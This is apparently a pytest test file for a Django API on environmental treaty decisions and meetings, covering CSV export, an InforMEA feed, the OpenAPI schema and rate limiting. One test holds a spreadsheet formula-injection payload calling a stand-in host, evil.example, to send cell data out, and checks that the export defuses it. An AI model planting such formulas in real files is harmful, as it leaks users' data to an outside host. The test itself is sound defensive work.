"""The API's contract: CSV export, the InforMEA feed, the OpenAPI schema and its
documentation page, and throttling."""

import csv
import io
import re

import pytest
from django.core.management import call_command
from rest_framework.throttling import SimpleRateThrottle

from decisions.models import Decision, Meeting
from tests import factories

API = "/api/v1/"


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 only with its BOM
    return list(csv.DictReader(io.StringIO(body[1:])))


def test_csv_export_neutralises_spreadsheet_formulas(api_client, db):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    factories.ActivityFactory(slug="hostile", title=hostile, narrative="+1 -2 @me")
    factories.ActivityFactory(slug="tabbed", narrative="\tTabbed", title="\r-1")
    factories.ActivityFactory(slug="calm", title="Plain - title")
    response = api_client.get(f"{API}activities/?format=csv")
    rows = {row["Identifier"]: row for row in csv_rows(response)}
    assert rows["hostile"]["Title"] == "'" + hostile
    assert rows["hostile"]["Narrative"] == "'+1 -2 @me"
    assert rows["tabbed"]["Narrative"] == "'\tTabbed"
    assert rows["tabbed"]["Title"] == "'\r-1"
    assert rows["calm"]["Title"] == "Plain - title"


@pytest.mark.parametrize(
    "resource",
    [
        "conventions",
        "secretariats",
        "organizations",
        "meetings",
        "documents",
        "decisions",
        "thematic-areas",
        "activities",
        "synergies",
        "cost-savings",
        "service-agreements",
    ],
)
def test_every_list_exports_csv(api_client, db, resource):
    factories.SynergyFactory()
    factories.CostSavingFactory()
    factories.DecisionFactory(meeting=factories.MeetingFactory())
    factories.DocumentFactory()
    factories.OrganizationFactory()
    factories.ServiceAgreementFactory()
    rows = csv_rows(api_client.get(f"{API}{resource}/", {"format": "csv"}))
    assert rows
    # Related records by symbol, code or name, never as API addresses.
    assert not any("/api/v1/" in value for row in rows for value in row.values())


def test_csv_holds_the_whole_list_on_one_file_not_pages(api_client, db):
    factories.ServiceAgreementFactory.create_batch(3)
    factories.ServiceAgreementFactory(slug="with-lines")
    response = api_client.get(f"{API}service-agreements/?format=csv&page_size=2")
    assert "Link" not in response
    everything = csv_rows(response)
    assert len(everything) == 4
    row = next(r for r in everything if r["Identifier"] == "with-lines")
    assert row["Outstanding"] == "6000.00"
    assert row["Provider"] == row["Provider"].strip()


def test_informea_decisions_use_informea_names_and_values(api_client, db):
    meeting = factories.MeetingFactory(
        slug="bc-cop-17", title="BC COP-17", url="https://www.basel.int/cop17"
    )
    factories.DecisionFactory(
        convention=factories.ConventionFactory(code="BC"),
        meeting_number=17,
        number=22,
        title="Cooperation",
        meeting=meeting,
        status=Decision.Status.ACTIVE,
        url="https://www.basel.int/bc-17-22",
    )
    mercury = factories.InforMEATermFactory(term="Mercury")
    waste = factories.InforMEATermFactory(term="Hazardous waste")
    secret = factories.InforMEATermFactory(term="Secret term")
    theme = factories.ThematicAreaFactory(name="Mercury wastes")
    theme.informea_terms.set([mercury, waste])
    factories.ThematicAreaFactory(name="Unmapped theme")
    factories.ActivityFactory(
        decisions=list(Decision.objects.all()), thematic_area=theme
    )
    hidden = factories.ThematicAreaFactory(name="Secret theme")
    hidden.informea_terms.set([secret])
    factories.ActivityFactory(
        decisions=list(Decision.objects.all()),
        publication_status="draft",
        thematic_area=hidden,
    )
    response = api_client.get("/api/informea/decisions/")
    assert response.status_code == 200
    (item,) = response.json()["results"]
    assert item == {
        "id": "bc-17-22",
        "link": "https://www.basel.int/bc-17-22",
        "title": [{"language": "en", "value": "Cooperation"}],
        "summary": [
            {"language": "en", "value": "Requests the secretariats to cooperate."}
        ],
        "type": "decision",
        "status": "active",
        "number": "BC-17/22",
        "treaty": "basel",
        "published": str(meeting.end_date),
        "updated": item["updated"],
        "meetingId": "bc-cop-17",
        "meetingTitle": "BC COP-17",
        "meetingUrl": "https://www.basel.int/cop17",
        "keywords": [
            {"namespace": "https://www.informea.org/terms", "term": "Hazardous waste"},
            {"namespace": "https://www.informea.org/terms", "term": "Mercury"},
        ],
    }


def test_informea_meetings_use_informea_names_and_values(api_client, db):
    factories.MeetingFactory(
        slug="mc-cop-6",
        convention=factories.ConventionFactory(code="MC"),
        kind=Meeting.Kind.COP,
        status=Meeting.Status.PLANNED,
        venue="CICG",
    )
    factories.MeetingFactory(
        slug="unea-7",
        convention=None,
        organization=factories.OrganizationFactory(),
        kind=Meeting.Kind.UNEA,
        status=Meeting.Status.HELD,
    )
    items = {
        m["id"]: m for m in api_client.get("/api/informea/meetings/").json()["results"]
    }
    cop = items["mc-cop-6"]
    assert cop["treaty"] == "minamata"
    assert cop["title"] == [{"language": "en", "value": cop["title"][0]["value"]}]
    assert (cop["kind"], cop["type"], cop["access"], cop["status"]) == (
        "official",
        "cop",
        "member",
        "confirmed",
    )
    assert (cop["start"], cop["end"]) == ("2025-04-28", "2025-05-09")
    assert (cop["location"], cop["city"], cop["country"]) == ("CICG", "Geneva", "CH")
    assert cop["url"] == "http://testserver/meetings/mc-cop-6/"
    unea = items["unea-7"]
    assert (unea["treaty"], unea["kind"], unea["type"], unea["status"]) == (
        None,
        "partner",
        "other",
        "over",
    )
    # Where the venue is not recorded, the place; never an empty string.
    assert unea["location"] == "Geneva, Switzerland"
    minamata = api_client.get("/api/informea/meetings/?treaty=minamata").json()
    assert [m["id"] for m in minamata["results"]] == ["mc-cop-6"]


# The InforMEA API's field lists (InforMEA/odata.provider: informea_decisions and
# informea_meetings with their multilingual and keyword views).
INFORMEA_DECISION_FIELDS = {
    "id", "link", "title", "summary", "type", "status", "number", "treaty",
    "published", "updated", "meetingId", "meetingTitle", "meetingUrl", "keywords",
}  # fmt: skip
INFORMEA_MEETING_FIELDS = {
    "id", "treaty", "url", "title", "start", "end", "repetition", "kind", "type",
    "access", "status", "location", "city", "country", "latitude", "longitude",
    "virtual", "updated",
}  # fmt: skip
INFORMEA_REQUIRED_MEETING_FIELDS = {"id", "treaty", "start", "city", "country"}


def test_informea_feed_fields_are_the_specifications(api_client, db):
    meeting = factories.MeetingFactory(
        convention=factories.ConventionFactory(code="BC"), country="Türkiye"
    )
    factories.DecisionFactory(meeting=meeting, adopted_on=None)
    (decision,) = api_client.get("/api/informea/decisions/").json()["results"]
    (item,) = api_client.get("/api/informea/meetings/").json()["results"]
    assert set(decision) == INFORMEA_DECISION_FIELDS
    assert set(item) == INFORMEA_MEETING_FIELDS
    assert decision["published"] == str(meeting.end_date)
    assert all(item[name] for name in INFORMEA_REQUIRED_MEETING_FIELDS)
    assert item["country"] == "TR"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T.*", decision["updated"])


def test_informea_meeting_of_unknown_place_gives_nulls_not_empty_strings(
    api_client, db
):
    factories.MeetingFactory(city="", country="", venue="", online=True)
    (item,) = api_client.get("/api/informea/meetings/").json()["results"]
    assert (item["location"], item["city"], item["country"]) == (None, None, None)
    assert item["virtual"] is True


def test_schema_generates_without_warnings(tmp_path):
    call_command(
        "spectacular", "--validate", "--fail-on-warn", "--file", str(tmp_path / "s.yml")
    )
    assert (tmp_path / "s.yml").read_text().startswith("openapi: 3")


def test_schema_documents_error_responses(api_client, db):
    schema = api_client.get("/api/schema/?format=json").json()
    activities = schema["paths"]["/api/v1/activities/"]
    assert {"400", "401", "404", "429"} <= set(activities["get"]["responses"])
    assert {"400", "401", "403", "429"} <= set(activities["post"]["responses"])
    detail = schema["paths"]["/api/v1/activities/{slug}/"]
    assert {"401", "403", "404", "429"} <= set(detail["patch"]["responses"])
    assert "Retry-After" in activities["get"]["responses"]["429"]["headers"]
    assert "basicAuth" not in schema["components"]["securitySchemes"]
    assert "tokenAuth" in schema["components"]["securitySchemes"]


def test_docs_page_is_served_from_local_static_files(api_client, db):
    response = api_client.get("/api/docs/")
    html = response.content.decode()
    assert response.status_code == 200
    assert (
        "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js" in html
    )
    assert "cdn" not in html.lower()
    assert "<script>" not in html  # the start-up script is a file, for the CSP
    script = api_client.get("/api/docs/?script=")
    assert script.status_code == 200
    assert "/api/schema/" in script.content.decode()


@pytest.fixture
def tiny_rates(monkeypatch, settings):
    # Cached anonymous reads never reach the throttle; measure the uncached path.
    settings.PUBLIC_CACHE_EXCLUDE = ("/admin/", "/health/", "/api/")
    monkeypatch.setattr(
        SimpleRateThrottle, "THROTTLE_RATES", {"anon": "2/minute", "user": "3/minute"}
    )


def test_anonymous_clients_are_throttled_with_retry_after(api_client, db, tiny_rates):
    for _ in range(2):
        assert api_client.get(f"{API}conventions/").status_code == 200
    response = api_client.get(f"{API}conventions/")
    assert response.status_code == 429
    assert int(response["Retry-After"]) > 0
    assert "detail" in response.json()


def test_a_forged_forwarded_for_header_shares_the_clients_bucket(
    api_client, db, tiny_rates
):
    for address in ("203.0.113.1", "203.0.113.2"):
        response = api_client.get(f"{API}conventions/", HTTP_X_FORWARDED_FOR=address)
        assert response.status_code == 200
    forged = api_client.get(f"{API}conventions/", HTTP_X_FORWARDED_FOR="198.51.100.7")
    assert forged.status_code == 429


def test_authenticated_clients_have_their_own_limit(mc_client, tiny_rates):
    statuses = [mc_client.get(f"{API}conventions/").status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
